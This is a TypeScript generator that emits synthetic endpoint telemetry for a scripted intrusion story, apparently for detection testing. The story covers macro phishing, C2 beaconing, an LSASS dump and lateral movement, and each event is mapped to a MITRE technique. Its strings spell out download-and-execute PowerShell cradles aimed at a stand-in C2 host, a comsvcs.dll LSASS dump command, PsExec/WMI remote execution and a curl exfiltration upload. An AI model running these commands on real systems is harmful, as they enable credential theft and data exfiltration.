/**
 * Story 1: a phishing mail with a macro document -> Word spawns encoded PowerShell -> payload and C2
 * beacon -> discovery -> LSASS dump with comsvcs.dll -> lateral movement by PsExec and WMI to two more
 * devices -> archive and exfiltration. Modelled on the OTRF captures (psh_lsass_memory_dump_comsvcs,
 * empire_psexec_dcerpc_tcp_svcctl, empire_wmi_dcerpc_wmi_IWbemServices_ExecMethod).
 */
import { comsvcsDll, makeBinary, vbaDll, winBin } from '../catalog.ts';
import { emailRow } from '../benign.ts';
import { deviceEventRow, fileRow, imageLoadRow, logonRow, networkRow, plainRow, processRow, spawn, SYSTEM } from '../rows.ts';
import type { StoryDefinition } from './story.ts';
import { encodePowerShell, sessionProcs, stolenAdmin, unknownBinary, userAccount, windowsVictims } from './helpers.ts';

const C2_IP = '203.0.113.45';
const C2_HOST = 'cdn-telemetry-sync.com';

export const phishMacroStory: StoryDefinition = {
  id: 'phish-macro-lateral',
  title: 'Macro phishing to credential theft, lateral movement and exfiltration',
  hoursAgo: 30,
  localHour: 10,
  build(ctx, out) {
    const { org, rng, start } = ctx;
    const [victim] = windowsVictims(org, rng, 1, ctx, (u) => u.department === 'Finance');
    const [hopB, hopC] = windowsVictims(org, rng, 2, ctx);
    const fileServer = org.servers.find((s) => s.service === 'file' && s.os === 'Windows');
    const { device: d, user: u } = victim!;
    const admin = stolenAdmin(org, ctx, (x) => x.groups.includes('Domain Admins')) ?? org.serviceAccounts[1]!;
    let t = start;
    // 1. The mail, its attachment, Outlook saving the attachment.
    const msgId = rng.guid();
    const doc = unknownBinary('Invoice_INV-40218.docm', '', 187_392);
    const senderDomain = 'acme-logistlcs.net';
    out.emit(t, emailRow(org, msgId, t, { address: `billing@${senderDomain}`, domain: senderDomain, name: 'Acme Logistics Billing', ip: '203.0.113.77' }, { email: u.email, objectId: u.objectId }, 'Overdue invoice INV-40218 - action required', 'Inbound', 'Delivered', 'Inbox/folder', '', '', '', 0, 1, 0, 4_100_000_001, '203.0.113.77'), 1, 'T1566.001', 'Phishing mail with a macro attachment delivered');
    out.emit(t + 1, plainRow('EmailAttachmentInfo', t + 1, { NetworkMessageId: msgId, SenderFromAddress: `billing@${senderDomain}`, SenderDisplayName: 'Acme Logistics Billing', RecipientEmailAddress: u.email, RecipientObjectId: u.objectId, FileName: doc.file, FileType: 'docm', SHA256: doc.sha256, FileSize: doc.size }), 1, 'T1566.001', 'Macro attachment');
    t += 14 * 60_000 + rng.int(600_000);
    const s = sessionProcs(org, d, u, t, rng);
    const cacheDir = `C:\\Users\\${u.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3Z8QX1B`;
    out.emit(t, fileRow(t, d, s.outlook, 'FileCreated', cacheDir, doc.file, doc, doc.size), 2, 'T1204.002', 'Outlook saves the attachment the user opens');
    // 2. Word opens it and loads the VBA runtime.
    const word = spawn(s.outlook, winBin.winword, out.pid(), `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "${cacheDir}\\${doc.file}" /o ""`, t + 2500);
    out.emit(word.created, processRow(word.created, d, word, s.outlook), 2, 'T1204.002', 'Word opens the macro document');
    out.emit(word.created + 3000, imageLoadRow(word.created + 3000, d, word, vbaDll), 2, 'T1204.002', 'Macro runtime loaded in Word');
    // 3. The macro starts encoded PowerShell, which downloads the payload.
    const script = `$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');$w.DownloadFile('https://${C2_HOST}/static/upd.bin',"$env:LOCALAPPDATA\\Temp\\MicrosoftEdgeUpdate.exe");Start-Process "$env:LOCALAPPDATA\\Temp\\MicrosoftEdgeUpdate.exe"`;
    t = word.created + 9000;
    const ps = spawn(word, winBin.powershell, out.pid(), `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${encodePowerShell(script)}`, t);
    out.emit(t, processRow(t, d, ps, word), 3, 'T1059.001', 'Office spawns hidden encoded PowerShell');
    out.emit(t + 900, imageLoadRow(t + 900, d, ps, winBin.powershell === ps.bin ? makeBinary({ file: 'System.Management.Automation.ni.dll', path: 'C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Management.Automation.ni.dll', company: 'Microsoft Corporation', product: 'Microsoft® Windows® Operating System', version: '10.0.22621.1', description: 'System.Management.Automation', size: 26_420_224 }) : vbaDll), 3, 'T1059.001', 'PowerShell engine loaded');
    out.emit(t + 1500, networkRow(t + 1500, d, ps, 'ConnectionSuccess', d.ip, 51_000 + rng.int(9000), C2_IP, 443, C2_HOST), 3, 'T1105', 'PowerShell downloads the payload');
    const payload = unknownBinary('MicrosoftEdgeUpdate.exe', `C:\\Users\\${u.name}\\AppData\\Local\\Temp\\MicrosoftEdgeUpdate.exe`, 312_832);
    out.emit(t + 2600, fileRow(t + 2600, d, ps, 'FileCreated', `C:\\Users\\${u.name}\\AppData\\Local\\Temp`, payload.file, payload, payload.size, { FileOriginUrl: `https://${C2_HOST}/static/upd.bin`, FileOriginIP: C2_IP }), 3, 'T1105', 'Payload written to Temp');
    const implant = spawn(ps, payload, out.pid(), `"${payload.path}"`, t + 3200);
    out.emit(implant.created, processRow(implant.created, d, implant, ps), 4, 'T1036.005', 'Payload masquerading as Edge update starts');
    // 4. Beacon every ~60 s for the rest of the story.
    const beaconEnd = implant.created + 3 * 3_600_000;
    for (let bt = implant.created + 5000; bt < beaconEnd; bt += 55_000 + rng.int(10_000)) {
      out.emit(bt, networkRow(bt, d, implant, 'ConnectionSuccess', d.ip, 49_152 + rng.int(16_000), C2_IP, 443, C2_HOST), 4, 'T1071.001', 'C2 beacon over HTTPS');
    }
    // 5. Discovery from a cmd shell.
    t = implant.created + 6 * 60_000;
    const cmd = spawn(implant, winBin.cmd, out.pid(), 'C:\\Windows\\system32\\cmd.exe', t);
    out.emit(t, processRow(t, d, cmd, implant), 5, 'T1059.003', 'Implant opens a command shell');
    const recon: [typeof winBin.whoami, string, string, string][] = [
      [winBin.whoami, 'whoami /all', 'T1033', 'Who am I'],
      [winBin.net, 'net group "Domain Admins" /domain', 'T1069.002', 'Domain admin group enumeration'],
      [winBin.nltest, 'nltest /dclist:' + org.adDomain, 'T1018', 'Domain controller discovery'],
      [winBin.ipconfig, 'ipconfig /all', 'T1016', 'Network configuration discovery'],
    ];
    for (const [bin, line, tech, what] of recon) {
      t += 20_000 + rng.int(30_000);
      const p = spawn(cmd, bin, out.pid(), line, t);
      out.emit(t, processRow(t, d, p, cmd), 5, tech, what);
    }
    // 6. LSASS dump with comsvcs.dll MiniDump, as in the OTRF capture.
    t += 4 * 60_000;
    const lsassPid = 700 + rng.int(60) * 4;
    const elevated = { ...implant, integrity: 'High', elevation: 'TokenElevationTypeFull' };
    const dumpPath = `C:\\Users\\${u.name}\\AppData\\Local\\Temp\\lsass-comsvcs.dmp`;
    const rundll = spawn(elevated, winBin.rundll32, out.pid(), `"C:\\Windows\\System32\\rundll32.exe" C:\\windows\\System32\\comsvcs.dll MiniDump ${lsassPid} ${dumpPath} full`, t, userAccount(org, u), s.logonId, 'High', 'TokenElevationTypeFull');
    out.emit(t, processRow(t, d, rundll, implant), 6, 'T1003.001', 'rundll32 comsvcs.dll MiniDump of LSASS');
    out.emit(t + 300, imageLoadRow(t + 300, d, rundll, comsvcsDll), 6, 'T1003.001', 'comsvcs.dll loaded into rundll32');
    out.emit(t + 500, deviceEventRow(t + 500, d, rundll, 'OpenProcessApiCall', { FileName: 'lsass.exe', FolderPath: 'C:\\Windows\\System32\\lsass.exe', ProcessId: lsassPid, AdditionalFields: JSON.stringify({ DesiredAccess: 2_097_151 }) }), 6, 'T1003.001', 'Process handle opened on LSASS');
    const dump = { sha1: rng.hex(40), sha256: rng.hex(64), md5: rng.hex(32) };
    out.emit(t + 4000, fileRow(t + 4000, d, rundll, 'FileCreated', `C:\\Users\\${u.name}\\AppData\\Local\\Temp`, 'lsass-comsvcs.dmp', dump, 48_211_968), 6, 'T1003.001', 'LSASS memory dump written');
    // 7. PsExec to hop B with the stolen admin credentials.
    t += 25 * 60_000;
    const psexec = unknownBinary('PsExec64.exe', `C:\\Users\\${u.name}\\AppData\\Local\\Temp\\PsExec64.exe`, 833_472, 'Sysinternals - www.sysinternals.com', 'Sysinternals PsExec', 'Execute processes remotely');
    out.emit(t - 60_000, fileRow(t - 60_000, d, implant, 'FileCreated', `C:\\Users\\${u.name}\\AppData\\Local\\Temp`, psexec.file, psexec, psexec.size), 7, 'T1105', 'PsExec dropped');
    const psx = spawn(cmd, psexec, out.pid(), `PsExec64.exe \\\\${hopB!.device.name} -accepteula -s -u ${org.netbios}\\${admin.name} -p ******** cmd.exe /c "powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('https://${C2_HOST}/a')"`, t);
    out.emit(t, processRow(t, d, psx, cmd), 7, 'T1570', 'PsExec launched against a second device');
    out.emit(t + 400, networkRow(t + 400, d, psx, 'ConnectionSuccess', d.ip, 49_152 + rng.int(16_000), hopB!.device.ip, 445, ''), 7, 'T1021.002', 'SMB to the admin share of the target');
    const b = hopB!.device;
    const bSys = sessionProcs(org, b, hopB!.user, t, rng);
    const adminLogon = { domain: org.netbios, name: admin.name, sid: admin.sid };
    out.emit(t + 700, logonRow(t + 700, b, 'LogonSuccess', 'Network', adminLogon, 7_000_000 + rng.int(1_000_000), undefined, { RemoteIP: d.ip, RemoteIPType: 'Private', RemoteDeviceName: d.name, Protocol: 'NTLM', IsLocalAdmin: true }), 7, 'T1078.002', 'Stolen admin account logs on over the network');
    const psexesvc = unknownBinary('PSEXESVC.exe', 'C:\\Windows\\PSEXESVC.exe', 195_008, 'Sysinternals - www.sysinternals.com', 'Sysinternals PsExec', 'PsExec Service');
    const sysProc = { ...bSys.services, account: SYSTEM };
    out.emit(t + 1100, fileRow(t + 1100, b, { ...bSys.services, bin: winBin.system, pid: 4, cmd: '' }, 'FileCreated', 'C:\\Windows', psexesvc.file, psexesvc, psexesvc.size, { RequestProtocol: 'Smb', RequestSourceIP: d.ip, RequestAccountName: admin.name, RequestAccountDomain: org.netbios, ShareName: 'ADMIN$' }), 7, 'T1021.002', 'PsExec service binary copied over ADMIN$');
    const svc = spawn(sysProc, psexesvc, out.pid(), 'C:\\Windows\\PSEXESVC.exe', t + 1600, SYSTEM, 999, 'System', 'TokenElevationTypeDefault');
    out.emit(svc.created, processRow(svc.created, b, svc, sysProc), 7, 'T1569.002', 'PsExec service started by services.exe');
    const bCmd = spawn(svc, winBin.cmd, out.pid(), `cmd.exe /c "powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('https://${C2_HOST}/a')"`, t + 2100);
    out.emit(bCmd.created, processRow(bCmd.created, b, bCmd, svc), 7, 'T1059.003', 'Remote command through PsExec');
    const bPs = spawn(bCmd, winBin.powershell, out.pid(), `powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('https://${C2_HOST}/a')`, t + 2500);
    out.emit(bPs.created, processRow(bPs.created, b, bPs, bCmd), 7, 'T1059.001', 'PowerShell download cradle on the second device');
    out.emit(bPs.created + 800, networkRow(bPs.created + 800, b, bPs, 'ConnectionSuccess', b.ip, 49_152 + rng.int(16_000), C2_IP, 443, C2_HOST), 7, 'T1071.001', 'Second device contacts the C2 server');
    // 8. WMI to hop C.
    t += 18 * 60_000;
    const c = hopC!.device;
    const wmic = spawn(cmd, winBin.wmic, out.pid(), `wmic /node:${c.name} /user:${org.netbios}\\${admin.name} process call create "powershell -nop -w hidden -enc ${encodePowerShell(`IEX(New-Object Net.WebClient).DownloadString('https://${C2_HOST}/b')`)}"`, t);
    out.emit(t, processRow(t, d, wmic, cmd), 8, 'T1047', 'WMI process creation on a third device');
    out.emit(t + 300, networkRow(t + 300, d, wmic, 'ConnectionSuccess', d.ip, 49_152 + rng.int(16_000), c.ip, 135, ''), 8, 'T1021.003', 'DCOM/RPC to the third device');
    const cSys = sessionProcs(org, c, hopC!.user, t, rng);
    out.emit(t + 700, logonRow(t + 700, c, 'LogonSuccess', 'Network', adminLogon, 7_100_000 + rng.int(1_000_000), undefined, { RemoteIP: d.ip, RemoteIPType: 'Private', RemoteDeviceName: d.name, Protocol: 'NTLM', IsLocalAdmin: true }), 8, 'T1078.002', 'Stolen admin account logs on to the third device');
    const wmiprv = spawn({ ...cSys.services, account: SYSTEM }, winBin.wmiprvse, out.pid(), 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', t - 3_600_000, { domain: 'nt authority', name: 'network service', sid: 'S-1-5-20' }, 996, 'System');
    const cPs = spawn(wmiprv, winBin.powershell, out.pid(), wmic.cmd.split('create ')[1]!.replaceAll('"', ''), t + 1200, { domain: org.netbios.toLowerCase(), name: admin.name, sid: admin.sid, upn: admin.upn, objectId: admin.objectId }, 7_100_001, 'High', 'TokenElevationTypeFull');
    out.emit(cPs.created, processRow(cPs.created, c, cPs, wmiprv), 8, 'T1047', 'WmiPrvSE spawns PowerShell');
    out.emit(cPs.created + 900, networkRow(cPs.created + 900, c, cPs, 'ConnectionSuccess', c.ip, 49_152 + rng.int(16_000), C2_IP, 443, C2_HOST), 8, 'T1071.001', 'Third device contacts the C2 server');
    // 9. Collection from the file share, archive, exfiltration.
    t += 40 * 60_000;
    if (fileServer) out.emit(t, networkRow(t, b, bPs, 'ConnectionSuccess', b.ip, 49_152 + rng.int(16_000), fileServer.ip, 445, ''), 9, 'T1039', 'Data collected from the Finance share');
    const stage = 'C:\\ProgramData\\Intel\\Logs';
    for (let i = 0; i < 12; i++) {
      const name = `${['Payroll', 'Bank details', 'Budget', 'Contracts', 'Board minutes', 'M&A target'][i % 6]} ${2023 + (i % 2)}.xlsx`;
      out.emit(t + 2000 + i * 900, fileRow(t + 2000 + i * 900, b, bPs, 'FileCreated', stage, name, { sha1: rng.hex(40), sha256: rng.hex(64), md5: rng.hex(32) }, 80_000 + rng.int(900_000)), 9, 'T1039', 'Files staged from the share');
    }
    t += 5 * 60_000;
    const zip = spawn(bPs, winBin.sevenZipCli, out.pid(), `"C:\\Program Files\\7-Zip\\7z.exe" a -tzip -pInfected2024 -mhe=on ${stage}\\logs.zip ${stage}\\*.xlsx`, t);
    out.emit(t, processRow(t, b, zip, bPs), 9, 'T1560.001', 'Password-protected archive created with 7-Zip');
    const archive = { sha1: rng.hex(40), sha256: rng.hex(64), md5: rng.hex(32) };
    out.emit(t + 7000, fileRow(t + 7000, b, zip, 'FileCreated', stage, 'logs.zip', archive, 6_512_640), 9, 'T1560.001', 'Archive written');
    t += 2 * 60_000;
    const curl = spawn(bPs, makeBinary({ file: 'curl.exe', path: 'C:\\Windows\\System32\\curl.exe', company: 'curl, https://curl.se/', product: 'The curl executable', version: '8.9.1.0', description: 'The curl executable', size: 590_336, signer: 'OsVendor' }), out.pid(), `curl.exe -s -k -X PUT --data-binary @${stage}\\logs.zip https://${C2_HOST}/upload/7f3a`, t);
    out.emit(t, processRow(t, b, curl, bPs), 10, 'T1041', 'Archive uploaded to the C2 server');
    out.emit(t + 600, networkRow(t + 600, b, curl, 'ConnectionSuccess', b.ip, 49_152 + rng.int(16_000), C2_IP, 443, C2_HOST, { AdditionalFields: JSON.stringify({ BytesSent: 6_530_112 }) }), 10, 'T1041', 'Exfiltration over the C2 channel');
  },
};
